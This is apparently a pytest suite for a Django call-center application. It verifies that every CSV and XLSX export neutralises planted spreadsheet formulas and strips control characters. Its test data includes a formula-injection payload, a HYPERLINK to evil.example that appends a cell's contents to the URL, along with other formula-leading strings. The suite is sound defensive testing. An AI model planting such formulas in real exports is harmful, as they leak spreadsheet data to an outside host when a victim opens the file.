"""Every CSV and XLSX the product writes is inert: a planted formula comes out as text."""

import csv
import io
import re

import openpyxl
import pytest
from django.forms import BooleanField
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

from attendance.models import ClientAccessLog, Message
from common.spreadsheets import FORMULA_STARTS, neutralize, unneutralize
from core.models import WalletImport, WalletImportError
from dialer.models import DialerExport, DialerExportItem
from tenants import audit

pytestmark = pytest.mark.django_db

PLANTED = '=HYPERLINK("http://evil.example/?"&A1,"clique")'
PLANTS = [PLANTED, "+55 11 ligue", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1"]


def risky(value) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_STARTS)


@pytest.mark.parametrize("text", PLANTS)
def test_neutralize_reads_back(text):
    assert not risky(neutralize(text))
    assert unneutralize(neutralize(text)) == text
    assert neutralize("Maria") == "Maria" and neutralize(12) == 12


def cells_of(response, fmt):
    content = b"".join(response.streaming_content) if response.streaming else response.content
    if fmt == "xlsx":
        workbook = openpyxl.load_workbook(io.BytesIO(content))
        cells = [cell for row in workbook.active.iter_rows() for cell in row]
        assert all(cell.data_type != "f" for cell in cells), "fórmula gravada no XLSX"
        return [cell.value for cell in cells]
    text = content.decode("utf-8-sig")
    delimiter = ";" if ";" in text[:200] else ","
    return [value for row in csv.reader(io.StringIO(text), delimiter=delimiter) for value in row]


def export(http, url, fmt_index):
    form = http.get(url).context["form"]
    data = {"format": str(fmt_index), **{k: "on" for k, f in form.fields.items() if isinstance(f, BooleanField)}}
    if "resource" in form.fields:
        data["resource"] = "0"
    response = http.post(url, data)
    assert response.status_code == 200, url
    return response


def test_every_export_writes_planted_formulas_as_text(client, tenant, tenant_admin, operator, make_client, creditor):
    creditor.name = PLANTED
    creditor.save()
    planted_client = make_client(name=PLANTED, notes="-1+1", city="@cidade")
    ClientAccessLog.objects.create(tenant=tenant, client=planted_client, user=operator, call_id=PLANTED)
    Message.objects.create(
        tenant=tenant, client=planted_client, direction="recebida", body=PLANTED, sent_at="2026-01-01T10:00Z"
    )
    audit.record(tenant, tenant_admin, audit.Action.CREDITOR_CHANGED, creditor, changes={"nome": ["a", PLANTED]})
    client.force_login(tenant_admin)
    checked = 0
    for url in (
        "/admin/core/client/export/",
        "/admin/attendance/message/export/",
        "/admin/attendance/clientaccesslog/export/",
        "/admin/tenants/auditevent/export/",
    ):
        for index, fmt in enumerate(("csv", "xlsx")):
            values = cells_of(export(client, url, index), fmt)
            assert any(isinstance(v, str) and "HYPERLINK" in v for v in values), f"{url} {fmt} sem o valor plantado"
            assert not [v for v in values if risky(v)], f"{url} ({fmt}) escreveu uma fórmula"
            checked += 1
    assert checked == 8


def test_the_failures_csv_is_inert(client, tenant, tenant_admin, make_client):
    planted_client = make_client(name=PLANTED)
    run = DialerExport.objects.create(tenant=tenant, campaign_id=1, campaign_name="C", list_name="L")
    DialerExportItem.objects.create(
        tenant=tenant, export=run, client=planted_client, campaign_id=1, status="falhou", error="=1+1"
    )
    client.force_login(tenant_admin)
    response = client.get(f"/admin/dialer/dialerexport/{run.pk}/falhas.csv")
    values = cells_of(response, "csv")
    assert any("HYPERLINK" in v for v in values)
    assert not [v for v in values if risky(v)]


# What openpyxl refuses in a cell (ILLEGAL_CHARACTERS_RE), DEL and the C1 controls, and the two non-characters
# XML 1.0 forbids: any of them in one row made the whole XLSX export fail.
CONTROL = "\x00\x01\x08\x0b\x0c\x0e\x1f\x7f\x85\x9f\ufffe\uffff"
STORED = CONTROL.replace("\x00", "")  # PostgreSQL stores any of them but NUL
LEFT_IN = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\ufffe\uffff]")


def test_control_characters_are_stripped_and_the_rest_is_kept():
    assert neutralize(f"Ma{CONTROL}ria\tda\r\nSilva") == "Maria\tda\r\nSilva"
    assert neutralize("\x0b=1+1") == "'=1+1"  # what is left after the strip is made inert too
    assert ILLEGAL_CHARACTERS_RE.search(neutralize(CONTROL)) is None


def test_every_download_survives_control_characters(client, tenant, tenant_admin, operator, make_client, creditor):
    """An access log written with ?call_id=x%0By (or a control character in any name) broke the LGPD export."""
    creditor.name = f"Banco{STORED}Horizonte"
    creditor.save()
    dirty = make_client(name=f"Maria{STORED}Silva", notes=f"nota{STORED}", city=f"São{STORED}Paulo")
    ClientAccessLog.objects.create(tenant=tenant, client=dirty, user=operator, call_id="x\x0by")
    Message.objects.create(
        tenant=tenant, client=dirty, direction="recebida", body=f"oi{STORED}", sent_at="2026-01-01T10:00Z"
    )
    audit.record(tenant, tenant_admin, audit.Action.CREDITOR_CHANGED, creditor, changes={"nome": ["a", STORED]})
    operator.first_name = f"Op{STORED}"
    operator.save()
    run = DialerExport.objects.create(tenant=tenant, campaign_id=1, campaign_name="C", list_name="L")
    DialerExportItem.objects.create(
        tenant=tenant, export=run, client=dirty, campaign_id=1, status="falhou", error=STORED
    )
    job = WalletImport.objects.create(tenant=tenant, requested_by=tenant_admin, file_name="c.csv", error_rows=1)
    WalletImportError.objects.create(tenant=tenant, wallet_import=job, line=2, external_id="X\x0b1", message=STORED)
    client.force_login(tenant_admin)

    expected = {  # what each download must still hold, the control characters taken out
        "/admin/core/client/export/": "MariaSilva",
        "/admin/attendance/message/export/": "oi",
        "/admin/attendance/clientaccesslog/export/": "xy",
        "/admin/tenants/auditevent/export/": "BancoHorizonte",
        f"/admin/dialer/dialerexport/{run.pk}/falhas.csv": "MariaSilva",
        f"/admin/core/walletimport/{job.pk}/erros.csv": "X1",
        "/admin/painel/operadores.csv?periodo=hoje": "Op",
    }
    checked = 0
    for url, text in expected.items():
        if url.endswith("/export/"):
            responses = [("csv", export(client, url, 0)), ("xlsx", export(client, url, 1))]
        else:
            responses = [("csv", client.get(url))]
        for fmt, response in responses:
            assert response.status_code == 200, url
            values = [v for v in cells_of(response, fmt) if isinstance(v, str)]
            assert not [v for v in values if LEFT_IN.search(v)], f"{url} ({fmt}) escreveu um caractere de controle"
            assert text in values, f"{url} ({fmt}) sem {text!r}: {values}"
            checked += 1
    assert checked == 11
